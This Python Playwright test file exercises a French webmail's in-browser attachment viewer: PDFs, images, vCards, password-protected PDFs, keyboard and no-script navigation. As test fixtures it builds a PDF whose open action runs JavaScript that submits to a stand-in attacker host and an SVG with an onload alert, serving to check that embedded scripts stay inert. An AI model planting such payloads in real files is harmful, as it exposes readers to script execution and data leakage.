"""Attachments opened over the desk, without a download before."""

import imaplib
import re
import ssl
import uuid
from collections.abc import Callable
from email.message import EmailMessage
from email.utils import format_datetime, localtime, make_msgid
from io import BytesIO

import pytest
from PIL import Image
from playwright.sync_api import Page, expect
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from e2e.conftest import NewVisitor
from e2e.desk import Desk
from e2e.visitor import Visitor
from vaguemestre.launcher.testing import Demo
from vaguemestre.mailbox.testing.images import cut, photo

pytestmark = pytest.mark.browser


def picture() -> bytes:
    held = BytesIO()
    Image.new("RGB", (900, 500), "teal").save(held, "PNG")
    return held.getvalue()


def pages(count: int, *, password: str = "") -> bytes:
    """With a script that a PDF runs when it is opened, where anything runs it."""
    held, book = BytesIO(), PdfWriter()
    for _ in range(count):
        book.add_blank_page(595, 842)
    script = TextStringObject("app.alert(1); this.submitForm('https://mechant.example/');")
    action = {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): script}
    book.root_object[NameObject("/OpenAction")] = DictionaryObject(action)
    if password:
        book.encrypt(password, algorithm="AES-256")
    book.write(held)
    return held.getvalue()


def put(demo: Demo, subject: str, *files: tuple[str, str, bytes]) -> None:
    """Into the teacher's inbox, as another program would."""
    message = EmailMessage()
    message["From"], message["To"] = "Sophie Marchand <service@autocars-marchand.example>", "x@ac-amiens.fr"
    message["Subject"], message["Date"], message["Message-ID"] = (
        subject,
        format_datetime(localtime()),
        make_msgid(domain="librairie.example"),
    )
    message.set_content("Voici.\n")
    for name, kind, content in files:
        main, _, sub = kind.partition("/")
        message.add_attachment(content, maintype=main, subtype=sub, filename=name)
    raw = message.as_bytes().replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
    imaps, account = demo.endpoints["imaps"], demo.account("teacher")
    context = ssl.create_default_context(cafile=str(demo.ca))
    with imaplib.IMAP4_SSL(imaps["host"], imaps["port"], ssl_context=context) as box:
        box.login(account["identifier"], account["password"])
        box.append("INBOX", "", imaplib.Time2Internaldate(localtime()), raw)


def thumbnails(page: Page) -> None:
    """Of a photo of twelve million points and three megabytes, upright; of one that is cut, its icon alone. What a busy
    machine had no time for is there at the next look."""
    whole, broken = page.locator(".file", has_text="IMG_2041"), page.locator(".file", has_text="IMG_2042")
    for _ in range(5):
        whole.scroll_into_view_if_needed()
        size = whole.locator("img").evaluate(
            "image => image.decode().then(() => [image.naturalWidth, image.naturalHeight])"
        )
        if size == [360, 160]:
            break
        page.reload()
    assert size == [360, 160]
    assert broken.locator("img").evaluate("image => image.decode().then(() => image.naturalWidth)") == 1
    expect(broken.locator(".file-thumb svg")).to_be_visible()
    boxes = [one.bounding_box() for one in (whole.locator("img"), broken.locator("img"))]
    assert boxes[0]
    assert boxes[1]
    assert boxes[0]["width"] == boxes[1]["width"] > 170
    assert boxes[0]["height"] == boxes[1]["height"] > 70


def files_of_six_kinds() -> list[tuple[str, str, bytes]]:
    return [
        ("Devis.pdf", "application/pdf", pages(3)), ("car.png", "image/png", picture()),
        ("piège.svg", "image/svg+xml", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        ("Convention.rtf", "application/rtf", rb"{\rtf1\ansi Article premier\par}"),
        ("IMG_2041.jpg", "image/jpeg", photo(orientation=6, octets=3_000_000)),
        ("IMG_2042.jpg", "image/jpeg", cut(photo(800, 600))),
    ]  # fmt: skip


def test_one_after_the_other_by_the_keyboard(at_the_desk: Callable[..., tuple[Visitor, Desk]], demo: Demo) -> None:
    name = f"Dossier {uuid.uuid4().hex[:6]}"
    put(demo, name, *files_of_six_kinds())
    visitor, desk = at_the_desk()
    page = visitor.page
    desk.wait_for(name)
    desk.open(name)
    message = page.url
    thumbnails(page)
    page.get_by_role("link", name="Devis.pdf", exact=True).click()
    viewer = page.get_by_role("dialog")
    expect(viewer.locator(".page-sheet canvas").first).to_be_visible()
    expect(viewer).to_contain_text("Page 1 sur 3")
    visitor.axe()

    page.keyboard.press("ArrowRight")
    expect(viewer.get_by_role("heading", name="car.png")).to_be_focused()
    image = viewer.get_by_role("img", name="car.png")
    assert image.evaluate("image => image.decode().then(() => image.naturalWidth)") == 900
    before = image.bounding_box()
    viewer.get_by_role("button", name="Agrandir").click()
    after = image.bounding_box()
    assert before is not None
    assert after is not None
    assert after["width"] > before["width"]
    visitor.axe()

    page.keyboard.press("ArrowRight")
    expect(viewer).to_contain_text('onload="alert(1)"')
    page.keyboard.press("ArrowRight")
    expect(viewer.locator(".page-text")).to_contain_text("Article premier", timeout=60_000)
    page.keyboard.press("Escape")
    expect(viewer).to_have_count(0)
    expect(page).to_have_url(message)
    expect(page.get_by_role("link", name="Convention.rtf", exact=True)).to_be_focused()
    expect(desk.reader).to_be_visible()


# Of each file in sight: whether the end of its name is whole, in a line of its own.
ENDS = """files => files.filter((one) => one.checkVisibility()).map((one) => {
  const name = one.querySelector(".file-name"), last = name.lastChild, range = document.createRange();
  range.setStart(last, last.length - 7); range.setEnd(last, last.length);
  const end = range.getBoundingClientRect(), around = name.getBoundingClientRect();
  return [range.toString(), end.left >= around.left && end.right <= around.right + 1, one.getBoundingClientRect().top];
})"""
OVER = """rows => rows.flatMap((row) => {
  const range = document.createRange(), thumbs = row.querySelector(".row-thumbs");
  if (!thumbs) return [];
  range.selectNodeContents(row.querySelector(".row-subject"));
  const subject = row.querySelector(".row-subject").getBoundingClientRect(), small = thumbs.getBoundingClientRect();
  return [small.left - Math.min(subject.right, range.getBoundingClientRect().right)];
})"""


@pytest.mark.parametrize("width", [1360, 390])
def test_many_files_are_lines_with_the_end_of_their_names_and_a_box(
    at_the_desk: Callable[..., tuple[Visitor, Desk]], demo: Demo, width: int
) -> None:
    name = f"Quatre-vingt-dix fiches pour le conseil de classe {uuid.uuid4().hex[:6]}"
    names = [f"Fiche de suivi du conseil de classe de l'élève matricule {number:03}.pdf" for number in range(90)]
    put(demo, name, *((one, "application/pdf", b"%PDF-1.4\n") for one in names))
    visitor, desk = at_the_desk(viewport={"width": width, "height": 844})
    page = desk.page
    desk.wait_for(name)
    for density in ("compact", "comfortable"):
        page.evaluate("density => { document.querySelector('[data-density]').dataset.density = density }", density)
        gaps = page.locator(".row").evaluate_all(OVER)
        assert gaps
        assert min(gaps) >= 0, density
    desk.open(name)
    files = desk.reader.locator(".file")
    ends = files.evaluate_all(ENDS)
    assert [(end, whole) for end, whole, _top in ends] == [(one[-7:], True) for one in names]
    assert len({top for _end, _whole, top in ends}) == len(names)
    assert desk.reader.locator(".files").evaluate("one => one.scrollWidth - one.clientWidth") == 0
    brick = desk.reader.locator(".files svg").evaluate_all(
        """all => { const probe = document.body.appendChild(document.createElement("i"));
          probe.style.color = "var(--brick)"; const brick = getComputedStyle(probe).color; probe.remove();
          return all.filter((one) => getComputedStyle(one).color === brick).length }"""
    )
    assert brick == 0
    expect(desk.reader.locator(".message-main")).not_to_contain_text(re.compile(r"\d\s(?:octets|Ko)"))
    box = desk.reader.get_by_label("Fichiers avec ces mots")
    place = files.first.bounding_box()
    box.fill("suivi 087")
    expect(files.filter(visible=True)).to_have_count(1)
    assert files.nth(87).bounding_box() == place
    visitor.axe()
    visitor.fits()
    box.press("Enter")
    expect(page.get_by_role("dialog").get_by_role("heading", name=names[87])).to_be_visible()
    page.keyboard.press("Escape")
    away = desk.reader.get_by_role("button", name="Retirer les pièces jointes")
    expect(away).to_be_hidden()
    desk.message_acts()
    expect(away).to_contain_text(re.compile(r"\d"))


def test_without_a_script_many_files_are_lines_too(new_visitor: NewVisitor, demo: Demo) -> None:
    name = f"Sept {uuid.uuid4().hex[:6]}"
    put(demo, name, *((f"Fiche {number}.txt", "text/plain", b"x") for number in range(7)))
    visitor = new_visitor(java_script_enabled=False)
    visitor.come_in(demo.account("teacher"), "/webmail/")
    desk = Desk(visitor.page)
    desk.row(name).first.locator(".row-link").click()
    expect(desk.reader.locator(".files-many .file")).to_have_count(7)
    expect(desk.reader.locator(".files-filter")).to_be_hidden()


def test_on_a_telephone_back_returns_to_the_message(new_visitor: NewVisitor, demo: Demo) -> None:
    name = f"Photo {uuid.uuid4().hex[:6]}"
    someone = f"Zoé {uuid.uuid4().hex[:6]}"
    card = f"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:{someone}\r\nTEL:0322000000\r\nEND:VCARD\r\n".encode()
    put(
        demo, name, ("car.png", "image/png", picture()), ("Devis.pdf", "application/pdf", pages(2)),
        ("carte.vcf", "text/vcard", card),
    )  # fmt: skip
    visitor = new_visitor(viewport={"width": 390, "height": 740}, has_touch=True, is_mobile=True)
    page, desk = visitor.page, Desk(visitor.page)
    visitor.go("/webmail/")
    visitor.sign_in(demo.account("teacher"))
    desk.wait_for(name)
    desk.open(name)
    page.get_by_role("link", name="car.png", exact=True).click()
    viewer = page.get_by_role("dialog")
    expect(viewer.get_by_role("img", name="car.png")).to_be_visible()
    visitor.fits()
    viewer.get_by_role("link", name="Pièce jointe suivante").click()
    expect(viewer.locator(".page-sheet canvas").first).to_be_visible()
    visitor.fits()
    visitor.axe()
    address = page.url
    page.go_back()
    expect(viewer).to_have_count(0)
    expect(desk.reader).to_be_visible()

    visitor.go(address.removeprefix(demo.web))
    expect(viewer.locator(".page-sheet canvas").first).to_be_visible()
    viewer.get_by_role("link", name="Fermer").click()
    expect(page.locator("#objet")).to_contain_text(name)

    page.get_by_role("link", name="carte.vcf", exact=True).click()
    viewer.get_by_role("button", name="Ajouter aux contacts").click()
    desk.toast("1 contact ajouté")
    page.get_by_role("link", name="carte.vcf", exact=True).click()
    expect(viewer).to_contain_text("déjà dans vos contacts")
    visitor.axe(".viewer")
    viewer.get_by_role("link", name="Fermer").click()


def test_without_a_script_each_is_a_page(new_visitor: NewVisitor, demo: Demo) -> None:
    name = f"Sans script {uuid.uuid4().hex[:6]}"
    put(demo, name, ("car.png", "image/png", picture()), ("note.txt", "text/plain", "Été".encode("cp1252")))
    visitor = new_visitor(java_script_enabled=False)
    page = visitor.page
    visitor.go("/webmail/")
    visitor.sign_in(demo.account("teacher"))
    Desk(page).row(name).first.locator(".row-link").click()
    page.get_by_role("link", name="car.png", exact=True).click()
    expect(page.get_by_role("img", name="car.png")).to_be_visible()
    page.get_by_role("link", name="Pièce jointe suivante").click()
    expect(page.locator(".viewer-text")).to_have_text("Été")
    page.get_by_role("link", name="Fermer").click()
    expect(page.locator("#objet")).to_contain_text(name)


def test_what_a_picture_leaves_clear_is_paper(at_the_desk: Callable[..., tuple[Visitor, Desk]], demo: Demo) -> None:
    """Black on nothing, in the dark: over the scrim it could not be read."""
    held, name = BytesIO(), f"Tampon {uuid.uuid4().hex[:6]}"
    Image.new("RGBA", (400, 300), (0, 0, 0, 0)).save(held, "PNG")
    put(demo, name, ("tampon.png", "image/png", held.getvalue()))
    visitor, desk = at_the_desk(color_scheme="dark")
    desk.wait_for(name)
    desk.open(name)
    visitor.page.get_by_role("link", name="tampon.png", exact=True).click()
    image = visitor.page.get_by_role("dialog").get_by_role("img", name="tampon.png")
    image.evaluate("image => image.decode()")
    drawn = Image.open(BytesIO(image.screenshot())).convert("RGB")
    assert drawn.getpixel((drawn.width // 2, drawn.height // 2)) == (255, 255, 255)


def test_a_pdf_with_a_password_asks_for_it_and_keeps_it_in_the_browser(
    at_the_desk: Callable[..., tuple[Visitor, Desk]], demo: Demo
) -> None:
    name, secret = f"Bulletin {uuid.uuid4().hex[:6]}", "Tournesol-1884"
    put(demo, name, ("Bulletin.pdf", "application/pdf", pages(2, password=secret)))
    visitor, desk = at_the_desk()
    page, told = visitor.page, list[str]()
    page.on("request", lambda request: told.append(f"{request.url} {request.headers} {request.post_data}"))
    desk.wait_for(name)
    desk.open(name)
    page.get_by_role("link", name="Bulletin.pdf", exact=True).click()
    viewer = page.get_by_role("dialog")
    field = viewer.get_by_label("Mot de passe du document")
    expect(field).to_be_focused()
    visitor.axe()
    field.fill("Tournesol")
    field.press("Enter")
    expect(viewer.get_by_role("alert")).to_contain_text("Ce mot de passe n’ouvre pas le document")
    expect(field).to_be_focused()
    expect(field).to_have_value("")
    visitor.axe()
    field.fill(secret)
    viewer.get_by_role("button", name="Ouvrir").click()
    expect(viewer.locator(".page-sheet canvas").first).to_be_visible()
    expect(viewer).to_contain_text("Page 1 sur 2")
    assert told
    assert not [said for said in told if "Tournesol" in said]
